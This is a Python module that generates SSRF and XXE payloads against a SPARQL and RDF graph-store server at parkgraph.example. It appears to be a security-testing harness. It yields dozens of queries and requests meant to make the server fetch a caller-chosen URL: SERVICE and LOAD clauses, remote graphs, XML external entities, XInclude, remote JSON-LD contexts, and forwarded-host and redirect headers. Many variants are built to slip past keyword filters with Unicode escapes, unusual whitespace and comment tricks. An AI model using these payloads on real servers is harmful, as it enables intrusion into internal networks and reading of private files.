"""Every way that was thought of to have a server fetch something: a place goes in, requests come out."""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple
from urllib.parse import quote, urlsplit

QUERY = {"Content-Type": "application/sparql-query"}
UPDATE = {"Content-Type": "application/sparql-update"}
OWN = "https://parkgraph.example/graph/user/attack"
"""A graph that a key holder may write."""


class Attack(NamedTuple):
    """A request."""

    method: str
    target: str
    headers: dict[str, str]
    body: bytes = b""


def calls(place: str) -> Iterator[str]:
    """Queries that call a place by SERVICE, or seem to."""
    block, iri = "{ ?s ?p ?o }", f"<{place}>"
    yield f"SELECT * {{ SERVICE {iri} {block} }}"
    yield f"SELECT * {{ SERVICE SILENT {iri} {block} }}"
    yield f"SELECT * {{ sErViCe sIlEnT {iri}{block} }}"
    yield f"SELECT * {{ SERVICESILENT{iri}{block} }}"
    yield f"SELECT * {{ {{ SELECT * {{ SERVICE {iri} {block} }} }} }}"
    yield f"ASK {{ FILTER EXISTS {{ SERVICE {iri} {block} }} }}"
    yield f"SELECT * {{ ?s ?p ?o MINUS {{ SERVICE {iri} {block} }} }}"
    yield f"SELECT * {{ OPTIONAL {{ SERVICE {iri} {block} }} }}"
    yield f"SELECT * {{ GRAPH ?g {{ SERVICE {iri} {block} }} }}"
    yield f"SELECT * {{ {{}} UNION {{ SERVICE {iri} {block} }} }}"
    yield f"CONSTRUCT {block} {{ SERVICE {iri} {block} }}"
    yield f"DESCRIBE ?s {{ SERVICE {iri} {block} }}"
    yield f"SELECT * {{ # {{\n SERVICE # <x:a>\r {iri} # '\n {block} }}"
    yield f"SELECT * {{ ?a ?b '# \\' ' . SERVICE {iri} {block} }}"
    yield f"SELECT * {{ ?a ?b '''\n\"#''' . SERVICE {iri} {block} }}"
    yield f"SELECT * {{ ?a <x:#> ?b . SERVICE {iri} {block} }}"
    yield f"PREFIX p: {iri} SELECT * {{ SERVICE p: {block} }}"
    yield f"PREFIX SERVICE: {iri} SELECT * {{ SERVICE SERVICE:x {block} }}"
    yield f"PREFIX : {iri} SELECT * {{ SERVICE: {block} SERVICE :x {block} }}"
    yield f"BASE {iri} SELECT * {{ SERVICE <> {block} SERVICE <x/y> {block} }}"
    yield f"SELECT * {{ VALUES ?x {{ {iri} }} SERVICE ?x {block} }}"
    yield f"SELECT * {{ BIND({iri} AS ?x) SERVICE SILENT ?x {block} }}"
    yield f"SELECT * {{ BIND(IRI('{place}') AS ?x) {{ SELECT * {{ SERVICE ?x {block} }} }} }}"
    yield f"SELECT * {{ LATERAL {{ SERVICE {iri} {block} }} }}"
    for keyword in ("\\u0053ERVICE", "SERVIC\\U00000045", "\\u005Cu0053ERVICE", "\u017fERVICE", "\uff33ERVICE"):
        yield f"SELECT * {{ {keyword} {iri} {block} }}"
    for gap in ("\\u0020", "\ufeff", "\u00a0", "\u2028", "\x0b", "\x0c", "\x00", "/**/"):
        yield f"SELECT * {{ SERVICE{gap}{iri} {block} }}"
    yield f"SELECT * {{ SERVICE \\u003C{place}\\u003E {block} }}"
    yield f"SELECT * {{ SERVICE {iri} \\u007B ?s ?p ?o }} }}"


def data_sets(place: str) -> Iterator[str]:
    """Queries over graphs that are elsewhere, and functions by that name."""
    iri = f"<{place}>"
    yield f"SELECT * FROM {iri} {{ ?s ?p ?o }}"
    yield f"SELECT * FROM NAMED {iri} {{ GRAPH ?g {{ ?s ?p ?o }} }}"
    yield f"SELECT * FROM {iri} FROM NAMED {iri} {{ GRAPH {iri} {{ ?s ?p ?o }} }}"
    yield f"BASE {iri} SELECT * FROM <> FROM <../x> {{ ?s ?p ?o }}"
    yield f"SELECT * {{ GRAPH {iri} {{ ?s ?p ?o }} }}"
    yield f"DESCRIBE {iri}"
    yield f"SELECT ({iri}(1) AS ?x) {{}}"
    yield f"SELECT * {{ BIND({iri}({iri}) AS ?x) }}"
    yield f"CONSTRUCT {{ {iri} <http://www.w3.org/2002/07/owl#imports> {iri} }} {{}}"


def updates(place: str) -> Iterator[str]:
    """Updates that load from a place, call it or have it for a graph."""
    iri, graph = f"<{place}>", f"GRAPH <{OWN}>"
    for target in ("", f" INTO {graph}", " INTO DEFAULT"):
        for silent in ("", " SILENT"):
            yield f"LOAD{silent} {iri}{target}"
    yield f"lOaD{iri}INTO{graph}"
    yield f"BASE {iri} LOAD <> INTO {graph}"
    yield f"PREFIX p: {iri} LOAD p:x INTO {graph}"
    yield f"CLEAR SILENT GRAPH <x:a> ; # LOAD\n LOAD {iri} INTO {graph}"
    yield f"\\u004COAD {iri} INTO {graph}"
    for call in calls(place):
        if call.startswith("SELECT * {"):
            yield f"INSERT {{ {graph} {{ ?s ?p ?o }} }} WHERE {call.removeprefix('SELECT * ')}"
    for verb in ("COPY", "MOVE", "ADD"):
        yield f"{verb} {iri} TO <{OWN}>"
        yield f"{verb} SILENT {iri} TO <{OWN}>"
    yield f"INSERT {{ {graph} {{ ?s ?p ?o }} }} USING {iri} USING NAMED {iri} WHERE {{ ?s ?p ?o }}"
    yield f"WITH {iri} DELETE {{ ?s ?p ?o }} WHERE {{ ?s ?p ?o }}"


def documents(place: str) -> Iterator[tuple[str, str]]:
    """Graphs to be sent, with their media types, that name a place where their reader might look."""
    yield "text/turtle", f"@base <{place}> . @prefix p: <{place}> . <> p:a <x>, p: ."
    yield "text/turtle", f"<x:a> <http://www.w3.org/2002/07/owl#imports> <{place}> ."
    yield "application/n-triples", f"<{place}> <{place}> <{place}> ."
    ld = "application/ld+json"
    yield ld, f'{{"@context": "{place}", "@id": "x:a", "x:b": "c"}}'
    yield ld, f'{{"@context": ["{place}", {{"a": "x:a"}}], "@id": "x:a", "a": "c"}}'
    yield ld, f'{{"@context": {{"@version": 1.1, "@import": "{place}"}}, "@id": "x:a", "x:b": "c"}}'
    yield ld, f'{{"@context": {{"a": {{"@id": "x:a", "@context": "{place}"}}}}, "@id": "x:a", "a": {{"b": "c"}}}}'
    yield ld, f'{{"@context": {{"@base": "{place}", "@vocab": "{place}"}}, "@id": "x", "b": "c"}}'
    xml, rdf = "application/rdf+xml", "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
    element = (
        f'<rdf:RDF xmlns:rdf="{rdf}" xmlns:x="x:"><rdf:Description rdf:about="x:a"><x:b>%s</x:b>'
        "</rdf:Description></rdf:RDF>"
    )
    yield xml, f'<!DOCTYPE r [<!ENTITY e SYSTEM "{place}">]>' + element % "&e;"
    yield xml, f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{place}"> %p;]>' + element % "&e;"
    yield xml, f'<!DOCTYPE r PUBLIC "-//X//Y" "{place}">' + element % "c"
    yield xml, f'<!DOCTYPE r SYSTEM "{place}">' + element % "&e;"
    yield xml, f'<?xml-stylesheet href="{place}"?>' + element % "c"
    yield xml, element % f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{place}" parse="text"/>'
    yield xml, f'<rdf:RDF xmlns:rdf="{rdf}" xml:base="{place}"><rdf:Description rdf:about="" rdf:type="x"/></rdf:RDF>'


def reading(place: str) -> Iterator[Attack]:
    """What everybody may try."""
    encoded = quote(place, safe="")
    for text in (*calls(place), *data_sets(place)):
        yield Attack("POST", "/sparql", QUERY, text.encode())
    for parameter in ("default-graph-uri", "named-graph-uri"):
        yield Attack("GET", f"/sparql?query=SELECT%20*%20%7B%3Fs%20%3Fp%20%3Fo%7D&{parameter}={encoded}", {})
    for target in (f"/rdf-graph-store?graph={encoded}", f"/rdf-graph-store/{encoded}"):
        yield Attack("GET", target, {})
        yield Attack("HEAD", target, {"Accept": "application/ld+json"})
    yield from _redirections(place)


def writing(place: str) -> Iterator[Attack]:
    """What needs a key, where there are any."""
    encoded, own = quote(place, safe=""), f"/rdf-graph-store?graph={quote(OWN, safe='')}"
    for text in updates(place):
        yield Attack("POST", "/sparql", UPDATE, text.encode())
    for parameter in ("using-graph-uri", "using-named-graph-uri"):
        insert = f"INSERT {{ GRAPH <{OWN}> {{ ?s ?p ?o }} }} WHERE {{ ?s ?p ?o }}"
        yield Attack("POST", f"/sparql?{parameter}={encoded}", UPDATE, insert.encode())
    for media, text in documents(place):
        headers = {"Content-Type": media, "Link": f'<{place}>; rel="{_CONTEXT}"', "Content-Location": place}
        yield Attack("PUT", own, headers, text.encode())
        yield Attack("GET", own, {"Accept": "application/ld+json"})
    for method in ("PUT", "POST", "DELETE"):
        for target in (f"/rdf-graph-store?graph={encoded}", f"/rdf-graph-store/{encoded}"):
            yield Attack(method, target, {"Content-Type": "text/turtle"}, b"<x:a> <x:b> <> .")


_CONTEXT = "http://www.w3.org/ns/json-ld#context"


def _redirections(place: str) -> Iterator[Attack]:
    host = urlsplit(place).netloc or "elsewhere.example"
    for target in ("/", "/documents/", "/entities", f"//{host}/documents/", place, f"/%2f{host}/", f"/\\{host}/"):
        yield Attack("GET", target, {"X-Forwarded-Host": host, "Forwarded": f"host={host};proto=https"})
        yield Attack("GET", target, {"Referer": place, "Origin": place, "X-Original-URL": place})
    for parameter in ("url", "next", "uri", "source", "q", "context"):
        yield Attack("GET", f"/entities?{parameter}={quote(place, safe='')}", {"Accept": "application/ld+json"})
    yield Attack("CONNECT", host, {})
    yield Attack("TRACE", "/sparql", {})
